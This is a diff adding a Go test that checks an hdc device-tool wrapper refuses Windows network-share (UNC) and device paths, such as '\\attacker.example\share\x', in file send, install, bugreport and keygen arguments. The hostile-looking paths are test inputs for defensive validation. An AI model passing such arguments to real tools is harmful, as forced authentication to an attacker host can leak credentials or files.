@@ -99,3 +99,39 @@ func testLocalPathKinds(t *testing.T, v variant) {
 		f.ok(t, hdc.ToolFileSend, map[string]any{"local": wp, "remote": "/data/local/tmp/ok"})
 	}
 }
+
+// testRunNetworkPaths: hdc.run with a Windows hdc.exe must not make it
+// open a network share (or a device path) for a command that reads or
+// writes a local file: no confirm is asked for file send, and Windows
+// would authenticate to the host.
+func testRunNetworkPaths(t *testing.T, v variant) {
+	f := newFixture(t, v, oneTarget(), false)
+	if !f.wine {
+		// A native hdc reads \\host\share as a relative Linux name:
+		// nothing to refuse, and nothing is.
+		res, _ := f.call(t, hdc.ToolRun, map[string]any{"args": []string{"file", "send", `\\attacker.example\share\x`, "/data/local/tmp/x"}})
+		if strings.Contains(res.TextOf(), "network share") {
+			t.Errorf("native hdc: refused as a network share: %q", res.TextOf())
+		}
+		return
+	}
+	for _, args := range [][]string{
+		{"file", "send", `\\attacker.example\share\x`, "/data/local/tmp/x"},
+		{"file", "send", `//attacker.example/share/x`, "/data/local/tmp/x"},
+		{"file", "send", `\/attacker.example\share\x`, "/data/local/tmp/x"},
+		{"install", `\\?\UNC\attacker.example\share\x.hap`},
+		{"file", "recv", "/data/local/tmp/x", `\\.\pipe\x`},
+		{"-t", "FAKE0001", "bugreport", `\\attacker.example\share\r.txt`},
+		{"keygen", `\??\UNC\attacker.example\s\k`},
+	} {
+		res, out := f.call(t, hdc.ToolRun, map[string]any{"args": args, "confirm": true})
+		if !res.IsError || out.ExitCode != -1 || !strings.Contains(res.TextOf(), "network share") && !strings.Contains(res.TextOf(), "device path") {
+			t.Errorf("hdc.run %q: isError %v %+v %q; want refused before hdc runs", args, res.IsError, out, res.TextOf())
+		}
+	}
+	// WSL's own share and device paths of the shell command pass.
+	res, _ := f.call(t, hdc.ToolRun, map[string]any{"args": []string{"shell", `echo \\attacker.example\share`}})
+	if res.IsError {
+		t.Errorf("a device shell command with a UNC-looking text refused: %q", res.TextOf())
+	}
+}
